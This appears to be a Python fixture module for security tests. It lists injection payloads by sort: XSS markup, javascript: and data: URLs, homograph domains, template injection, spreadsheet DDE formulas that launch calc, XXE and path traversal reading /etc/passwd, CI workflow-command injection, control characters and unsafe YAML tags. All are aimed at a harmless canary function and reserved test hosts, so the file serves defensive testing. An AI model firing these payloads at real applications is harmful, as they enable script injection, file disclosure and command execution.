"""What is tried, by sort: texts that would act in a page, a calendar, a spreadsheet, a terminal or a workflow.

Whatever could act carries a wire: it calls `struck()`, or asks something of the host `strike.invalid`. A browser in
which neither happens was not struck.
"""

from collections.abc import Iterator, Mapping
from typing import NamedTuple

WIRE = "struck()"
HOST = "strike.invalid"
FAR = "strike.example"  # the same for addresses that may be linked to: a link may lead there, and nothing may be asked

TEXTS: Mapping[str, tuple[str, ...]] = {
    "markup": (
        "<script>struck()</script>",
        "</script><script>struck()</script>",
        "<img src=x onerror=struck()>",
        "<svg onload=struck()><circle r=9 /></svg>",
        "<svg><script href=data:,struck() />",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=struck()>",
        "<iframe srcdoc='<script>parent.struck()</script>'></iframe>",
        "<iframe src=//strike.invalid></iframe>",
        "<object data=//strike.invalid></object><embed src=//strike.invalid>",
        "<link rel=stylesheet href=//strike.invalid><style>@import '//strike.invalid';</style>",
        "<meta http-equiv=refresh content='0;url=//strike.invalid'>",
        "<base href=//strike.invalid/>",
        "<form action=//strike.invalid><button formaction=javascript:struck()>x",
        "<details open ontoggle=struck()><video><source onerror=struck()></video>",
        "<input autofocus onfocus=struck()>",
        "<template shadowrootmode=open><img src=x onerror=struck()></template>",
        '"><script>struck()</script>',
        "' autofocus onfocus='struck()' x='",
        '" onmouseover="struck()" style="background:url(//strike.invalid)" x="',
        "` onmouseover=`struck()`",
        "<a id=results name=results href=#>clobbered</a><form id=count><input name=textContent></form>",
        "--><script>struck()</script><!--",
        "]]><script>struck()</script><![CDATA[",
        "<![CDATA[<script>struck()</script>]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "<?xml-stylesheet href='javascript:struck()'?><?php struck() ?>",
        "<noscript><p title='</noscript><img src=x onerror=struck()>'>",
        "<title></title><textarea></textarea><script>struck()</script>",
        "</title></textarea></option></select></template><script>struck()</script>",
        "&lt;script&gt;struck()&lt;/script&gt;",
        "&#60;img src=x onerror=struck()&#62;",
        "\\u003cscript\\u003estruck()\\u003c/script\\u003e",
        "<scr\u200bipt>struck()</scr\u200bipt>",
        "＜script＞struck()＜/script＞",
        "<SCRIPT/SRC=//strike.invalid/x.js></SCRIPT>",
        "<x onclick=struck() style=position:fixed;inset:0>all of the page",
        "<style>*{background:url(//strike.invalid)}</style>",
        "*[</strong><script>struck()</script>](x)*",
        "!--<img/src=`//strike.invalid`",
        "{'constructor':'x'}</script><svg/onload=struck()>",
    ),
    "address": (
        "javascript:struck()",
        "JaVaScRiPt:struck()",
        " javascript:struck()",
        "java&#x0A;script:struck()",
        "javascript&colon;struck()",
        "&#106;avascript:struck()",
        "javascript%3Astruck()",
        "data:text/html,<script>struck()</script>",
        "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='struck()'/>",
        "vbscript:struck()",
        "blob:https://strike.example/1",
        "intent://strike.example/#Intent;scheme=https;end",
        "view-source:https://strike.example/",
        "filesystem:https://strike.example/temporary/x",
        "file:///etc/passwd",
        "about:blank#struck()",
        "jar:https://strike.example!/x",
        "ms-word:ofe|u|https://strike.example/x.docx",
        "feed:javascript:struck()",
        "ws://strike.example/",
        "ftp://strike.example/",
        "//strike.invalid/",
        "///strike.invalid/",
        "/\\strike.invalid/",
        "\\\\strike.invalid\\share",
        "http:strike.invalid",
        "https:\\\\strike.invalid",
        "https://someone:secret@strike.example/",
        "https://example.org@strike.example/",
        "https://example.org%40strike.example/",
        "https://strike.example:99999/",
        "https://127.0.0.1/",
        "https://2130706433/",
        "https://[::1]/",
        "https://localhost/",
        "https://strike.invalid/",
        "https://strike.example/\"onmouseover=\"struck()",
        "https://strike.example/'><script>struck()</script>",
        "https://strike.example/?q=<script>struck()</script>",
        "https://strike.example/#javascript:struck()",
        "https://strike.example/" + "a" * 3_000,
        "mailto:ana@example.org?subject=x&bcc=all@strike.example&body=struck()",
        "mailto:ana@example.org%0Abcc:all@strike.example",
        "tel:+31612345678;ext=struck()",
        "tel:*#06#",
        "#results",
        "?q=x",
        "../../../../etc/passwd",
    ),
    "homograph": (
        "https://аррӏе.com/",
        "https://ехаmрle.org/",
        "https://example。org/",
        "https://example.org／strike.example/",
        "https://exam\u00adple.org/",
        "https://xn--80ak6aa92e.com/",
        "https://faß.de/",
        "https://☃.example/",
    ),
    "template": (
        "{{7*7}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in range(9) %}struck(){% endfor %}",
        "{% include '/etc/passwd' %}",
        "{#struck()#}",
        "${7*7} #{7*7} <%= 7*7 %> ${{ github.token }}",
        "{{constructor.constructor('struck()')()}}",
        "%(title)s %s {0} {title} $title",
        "{place}{name}{n!r:>99999}",
    ),
    "line": (
        "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:struck()",
        "x\nATTENDEE:mailto:all@strike.example",
        "x\\nEND:VEVENT\\nBEGIN:VALARM",
        "x;X-STRUCK=1:y,z\\",
        "x\r\n::error file=README.md,line=1::struck()",
        "::set-output name=x::struck()",
        "%0A::error::struck()",
        "::add-mask::struck()",
        "##[error]struck()",
        "x\u2028::error::struck()",
        "x\u0085::error::struck()",
        'a","b"\r\n"=1+1',
        "x\n---\nname: struck()\n---\n",
        "x\n\n# A heading",
    ),
    "formula": (
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://strike.example/\",\"x\")",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        " =1+1",
        "x;=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "=IMPORTXML(CONCAT(\"https://strike.example/\",A1),\"//a\")",
    ),
    "bidi": ("\u202egnp.exe", "a\u2066b\u2069c", "\u200fx", "\u061cx", "\u202a\u202bx\u202c"),
    "control": ("a\x00b", "a\x07b", "\x1b[31mred", "\x1b]0;title\x07", "a\x08\x08b", "a\x7fb", "a\x9bb", "a\ufffeb"),
    "surrogate": ("a\ud800b", "\udfff"),
    "unseen": ("\u200b", "a\u200bb", "\u2060\ufeff", "a\u00adb", "\u3164", "a\u2062b", "a\U000e0041b", "a\u200db"),
    "huge": ("a" * 30_000, "a " * 15_000, "9" * 6_000, "é" * 15_000, "a\u0301\u0316" * 6_000, "-" * 30_000),
    "prototype": (
        "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__",
        "length", "then", "toJSON", "undefined", "NaN", "null ", "true", "Infinity", "-0", "1e999", "0x10",
        "__class__", "__init__", "self", "None",
    ),
    "lunr": (
        "title:x", "name:*", "~9 ^9 +x -y", "*", "foo~999999", "a^b", "+ - ~ ^ : *", "x:y:z", "\\", "*" * 200,
        "+struck -struck", "constructor:x", "__proto__:x",
    ),
}  # fmt: skip

# What YAML could make of a value: written as it stands, where the value of a field is expected.
SHAPES: Mapping[str, tuple[str, ...]] = {
    "deep": ("[" * 300 + "]" * 300, "{a: " * 60 + "1" + "}" * 60, "[" * 12_000),
    "many": (
        "[" + ", ".join(f"k{n:04}" for n in range(1_500)) + "]",
        "{" + ", ".join(f"k{n:04}: v" for n in range(1_500)) + "}",
        "[" + ", ".join(["{a: b}"] * 1_500) + "]",
    ),
    "shape": (
        "[]", "{}", "[[]]", "[{}]", "{[a]: b}", "{{a: b}: c}", "{? a}", "~", "''", "!!python/object:os.system x",
        "!!bool maybe", "!!int x", "! x", "!!binary x", "&a x", "*a", "{<<: {a: b}}", "{a: 1, a: 2}",
        "{__proto__: {struck: yes}, constructor: {prototype: x}}", "[a, ~, [], {}, '']", "2026-02-30", "0777", "0o17",
        "1_000", ".nan", ".inf", "12:30:45", "no", "0001-01-01", "9999-12-31", "2026-11-21T00:00:00Z", "|\n  x\n  y",
        ">-\n  x\n\n  y", '"\\x00"', '"\\u202E"', '"\\ud800"', '"\\U0010FFFF"', "'unterminated", '"unterminated',
        "[unterminated", "@x", "`x`", "%x", "x: y: z", "- x", "\tx", "? x", "1\u00a0000", "-1", "99999999999999999999",
    ),
}  # fmt: skip


class Payload(NamedTuple):
    """One thing to try: the sort it is of, the text, and how YAML has it."""

    sort: str
    text: str
    yaml: str


def payloads() -> Iterator[Payload]:
    """All that is tried in a field."""
    for sort, texts in TEXTS.items():
        for text in texts:
            yield Payload(sort, text, quoted(text))
            if sort in ("bidi", "control"):
                yield Payload(sort, text, f'"{text}"')
    for sort, shapes in SHAPES.items():
        for shape in shapes:
            yield Payload(sort, shape, shape)


def quoted(text: str) -> str:
    """A text as YAML has it in quotes; only what would end a line or be no character is told by its number."""
    signs = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\r": "\\r", "\t": "\\t"}
    return '"' + "".join(signs.get(one) or (one if _plain(one) else _numbered(one)) for one in text) + '"'


def _plain(sign: str) -> bool:
    """Whether YAML reads a sign as it stands."""
    return " " <= sign <= "~" or (sign >= "\u00a0" and not "\ud800" <= sign <= "\udfff" and sign not in "\ufffe\uffff")


def _numbered(sign: str) -> str:
    return f"\\x{ord(sign):02x}" if ord(sign) < 256 else f"\\u{ord(sign):04x}"
